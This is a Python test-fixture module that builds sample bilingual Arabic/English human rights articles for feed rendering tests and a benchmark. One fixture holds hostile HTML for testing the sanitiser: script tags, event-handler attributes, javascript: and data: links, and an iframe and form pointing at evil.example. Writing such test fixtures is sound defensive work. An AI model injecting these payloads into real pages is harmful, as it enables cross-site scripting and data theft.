"""Fixed articles for the feed tests and the feed benchmark: Arabic and English, a bilingual
pair, a split bilingual page, campaigns with action links, an edited article, hostile content.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path

from feeds.models import ActionLink, Article, Kind
from feeds.publish import SiteInfo, SourceInfo
from feeds.render import FeedSpec, SourceMeta
from feeds.store import ArticleStore, open_engine

T0 = datetime(2024, 3, 1, 9, 0, tzinfo=UTC)
SITE = "https://alqst.org"

HOSTILE_BODY = (
    '<p onclick="steal()" style="position:fixed">Read <a href="/en/post/context?utm_source=tw'
    '&amp;utm_medium=social&amp;id=7" onmouseover="x()">the context</a>.</p>'
    '<script>document.cookie</script><style>body{display:none}</style>'
    '<iframe src="https://evil.example/frame">frame text</iframe>'
    '<form action="https://evil.example/post"><input name="q"><button>Go</button></form>'
    '<p><a href="javascript:alert(1)">click</a> <a href="JaVaScRiPt:alert(2)">again</a>'
    ' <a href="data:text/html;base64,PHNjcmlwdD4=">data</a></p>'
    '<img src="/media/photo.jpg" alt="detained activist" onerror="alert(3)">'
    '<img src="https://tracker.example/open.gif?u=1" width="1" height="1">'
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">'
    '<p>control\x00\x01\x02\x03\x04\x05\x06\x07\x08 chars\x0b\x0c\x7f\x85 here</p>'
)
# Lone surrogates cannot be encoded at all; an Article drops them when it is built, and the
# renderer drops them again from whatever reaches it.
SURROGATES = "broken \ud800 pair \udfff end"



def sample_articles() -> list[Article]:
    """Eight articles as the extractor would hand them over (dates fixed, URLs absolute)."""
    ar_pair = f"{SITE}/ar/post/release-salma"
    en_pair = f"{SITE}/en/post/release-salma"
    split = f"{SITE}/posts/930"
    return [
        Article(
            key=ar_pair, url=ar_pair, source="alqst", lang="ar",
            title="القسط تطالب بالإفراج عن سلمى الشهاب",
            body_html='<p>تطالب القسط <a href="/ar/post/background">بالإفراج الفوري</a> عن '
                      'الناشطة سلمى الشهاب.</p><p><img src="/media/salma.jpg" alt="سلمى"></p>',
            body_text="تطالب القسط بالإفراج الفوري عن الناشطة سلمى الشهاب.",
            summary="تطالب القسط بالإفراج الفوري عن الناشطة سلمى الشهاب.",
            published=T0, image=f"{SITE}/media/salma.jpg", kind=Kind.NEWS,
            categories=("معتقلو الرأي",), translations={"en": en_pair},
        ),
        Article(
            key=en_pair, url=en_pair, source="alqst", lang="en",
            title="ALQST calls for the release of Salma al-Shehab",
            body_html='<p>ALQST calls for the <a href="/en/post/background">immediate release</a>'
                      " of activist Salma al-Shehab.</p>",
            body_text="ALQST calls for the immediate release of activist Salma al-Shehab.",
            summary="ALQST calls for the immediate release of activist Salma al-Shehab.",
            published=T0 + timedelta(minutes=5), image=f"{SITE}/media/salma.jpg",
            kind=Kind.NEWS, categories=("Prisoners of conscience",),
            translations={"ar": ar_pair},
        ),
        Article(
            key=f"{SITE}/ar/post/act-now", url=f"{SITE}/ar/post/act-now", source="alqst",
            lang="ar", title="تحرّك الآن: أوقفوا تنفيذ أحكام الإعدام",
            body_html="<p>انضم إلى حملتنا لوقف أحكام الإعدام.</p>",
            body_text="انضم إلى حملتنا لوقف أحكام الإعدام.", summary="",
            published=T0 + timedelta(days=1), kind=Kind.CAMPAIGN,
            actions=(ActionLink(f"{SITE}/ar/petition?utm_source=site", "وقّع العريضة"),
                     ActionLink("https://twitter.com/intent/tweet?text=%D8%A3%D9%88%D9%82%D9%81%D9%88",
                                "غرّد")),
        ),
        Article(
            key=f"{SITE}/en/post/act-now", url=f"{SITE}/en/post/act-now", source="alqst",
            lang="en", title="Take action: stop the executions",
            body_html='<p>Join our campaign to stop executions.</p>'
                      '<p><img src="../../media/campaign.png" alt="campaign"></p>',
            body_text="Join our campaign to stop executions.",
            summary="Join our campaign to stop executions & write to the authorities.",
            published=T0 + timedelta(days=1, hours=1), image="/media/campaign.png",
            kind=Kind.CAMPAIGN,
            actions=(ActionLink("/en/petition?utm_campaign=spring&lang=en", "Sign the petition"),
                     ActionLink("mailto:embassy@example.org?subject=Stop%20executions",
                                "Email the embassy")),
        ),
        Article(
            key=f"{split}#ar", url=split, source="alqst", lang="ar",
            title="تقرير: أوضاع السجون في عام 2023",
            body_html="<p>يوثق التقرير أوضاع السجون.</p>",
            body_text="يوثق التقرير أوضاع السجون.", summary="يوثق التقرير أوضاع السجون.",
            published=T0 - timedelta(days=3), kind=Kind.REPORT,
            translations={"en": f"{split}#en"},
        ),
        Article(
            key=f"{split}#en", url=split, source="alqst", lang="en",
            title="Report: prison conditions in 2023",
            body_html="<p>The report documents prison conditions.</p>",
            body_text="The report documents prison conditions.",
            summary="The report documents prison conditions.",
            published=T0 - timedelta(days=3), kind=Kind.REPORT,
            translations={"ar": f"{split}#ar"},
        ),
        Article(
            key=f"{SITE}/ar/post/بيان-مشترك", url=f"{SITE}/ar/post/بيان-مشترك", source="alqst",
            lang="ar", title="بيان مشترك &amp; نداء <b>عاجل</b>",
            body_html='<p>وقّعت <a href="https://example.org/ngo?fbclid=abc">منظمات</a> '
                      "على البيان.</p>",
            body_text="وقّعت منظمات على البيان.", summary="وقّعت منظمات على البيان.",
            published=T0 - timedelta(days=1), kind=Kind.STATEMENT,
        ),
        Article(
            key=f"{SITE}/en/post/hostile", url=f"{SITE}/en/post/hostile", source="alqst",
            lang="en", title='<script>alert("t")</script>Hostile \x07title <img src=x onerror=y>',
            body_html=HOSTILE_BODY, body_text="Read the context.",
            summary="Summary with <b>tags</b> and \x1b control & 5&amp;10 entities",
            published=T0 - timedelta(days=2), kind=Kind.NEWS,
        ),
    ]


def edited(article: Article) -> Article:
    """The same article after the site edited it: new body, same key."""
    return article.with_(
        body_html=article.body_html + "<p>Update: the court postponed the hearing.</p>",
        body_text=article.body_text + " Update: the court postponed the hearing.",
        updated=None,
    )


def fill_store(path: Path, *, with_edit: bool = True) -> ArticleStore:
    """A real SQLite store holding the samples; the English pair article edited later."""
    store = ArticleStore(open_engine(path))
    for article in sample_articles():
        store.upsert(article, T0 + timedelta(days=2))
    if with_edit:
        en = store.get(f"{SITE}/en/post/release-salma")
        assert en is not None
        store.upsert(edited(en), T0 + timedelta(days=3))
    return store


def sample_spec(lang: str = "en", base: str = "https://feeds.example.org/") -> FeedSpec:
    titles = {"ar": ("القسط — آخر الأخبار", "آخر أخبار القسط"),
              "en": ("ALQST — latest news", "Latest news from ALQST")}
    title, description = titles.get(lang, titles["en"])
    return FeedSpec(
        title=title, description=description, lang=lang, home_url=f"{SITE}/{lang}",
        rss_url=f"{base}{lang}/rss.xml", atom_url=f"{base}{lang}/atom.xml",
        json_url=f"{base}{lang}/feed.json", author="ALQST for Human Rights",
        sources=(SourceMeta("alqst", "ALQST for Human Rights", SITE + "/",
                            ("Saudi Arabia", "Human rights")),),
        ttl_minutes=30,
    )


def sample_site(base_url: str, *, two_sources: bool = False) -> SiteInfo:
    sources = [SourceInfo("alqst", "ALQST for Human Rights", SITE + "/", ("ar", "en"),
                          ("Saudi Arabia", "Human rights"))]
    if two_sources:
        sources.append(SourceInfo("gccr", "Gulf Centre for Rights", "https://gccr.example/",
                                  ("ar",), ("Gulf",)))
    return SiteInfo(
        base_url=base_url, organisation="ALQST", sources=tuple(sources), max_items=50,
        telegram={"ar": "https://t.me/alqst_ar", "en": "https://t.me/alqst_en"},
        names={"ar": "القسط", "en": "ALQST"}, cache_seconds=1800,
    )


def many_articles(count: int, lang: str = "en") -> list[Article]:
    """`count` realistic articles (about 4 KB of body each) for the benchmark."""
    paragraph = ("<p>ALQST has documented the case of a human rights defender who was "
                 'arrested after <a href="/en/post/background">peaceful criticism</a> and held '
                 "without charge, in violation of international standards.</p>")
    articles = []
    for i in range(count):
        url = f"{SITE}/{lang}/post/article-{i}"
        articles.append(Article(
            key=url, url=url, source="alqst", lang=lang, title=f"Article number {i}",
            body_html=paragraph * 12 + f'<p><img src="/media/{i}.jpg" alt="photo {i}"></p>',
            body_text="ALQST has documented the case " * 20, summary=f"Summary of article {i}.",
            published=T0 - timedelta(hours=i), image=f"{SITE}/media/{i}.jpg",
            kind=Kind.CAMPAIGN if i % 10 == 0 else Kind.NEWS,
            actions=(ActionLink(f"{SITE}/{lang}/petition/{i}", "Sign"),) if i % 10 == 0 else (),
        ))
    return articles
